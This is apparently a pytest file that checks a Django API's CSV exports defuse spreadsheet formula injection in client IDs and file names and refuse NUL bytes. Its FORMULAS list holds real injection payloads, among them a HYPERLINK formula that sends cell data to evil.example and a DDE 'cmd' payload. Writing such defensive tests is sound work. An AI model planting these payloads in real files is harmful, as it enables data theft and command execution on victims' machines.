"""CSV exports cannot carry a formula into a spreadsheet: a client_id or a file name that
starts like one (= + - @ tab CR) is written as text; a NUL in client_id is refused (400)."""

from __future__ import annotations

import csv
import io

import pytest

from provenance.checks.services import check_create

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


def _rows(response) -> list[dict[str, str]]:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.DictReader(io.StringIO(body.decode())))


def test_client_ids_that_start_like_formulas_are_written_as_text(api_for, alice_key):
    client = api_for("alice")
    texts = [{"client_id": cid, "text": "a short text"} for cid in FORMULAS]
    audit = client.post("/api/v1/audits", {"texts": texts}, format="json").json()
    rows = _rows(client.get(f"/api/v1/audits/{audit['id']}/export.csv"))
    assert sorted(row["client_id"] for row in rows) == sorted(f"'{cid}" for cid in FORMULAS)


def test_file_names_that_start_like_formulas_are_written_as_text(api_for, cast, alice_key):
    check = check_create(user=cast["alice"], text="a short text", filename="=1+2.txt")
    rows = _rows(api_for("alice").get(f"/api/v1/checks/{check.id}/export.csv"))
    assert rows and all(row["filename"] == "'=1+2.txt" for row in rows)


def test_plain_values_are_left_alone(api_for, alice_key):
    client = api_for("alice")
    audit = client.post(
        "/api/v1/audits", {"texts": [{"client_id": "essay 7", "text": "t"}]}, format="json"
    ).json()
    rows = _rows(client.get(f"/api/v1/audits/{audit['id']}/export.csv"))
    assert [row["client_id"] for row in rows] == ["essay 7"]


def test_a_nul_in_client_id_is_refused(api_for, alice_key):
    response = api_for("alice").post(
        "/api/v1/audits", {"texts": [{"client_id": "a\x00b", "text": "t"}]}, format="json"
    )
    assert response.status_code == 400 and "NUL" in response.json()["detail"]
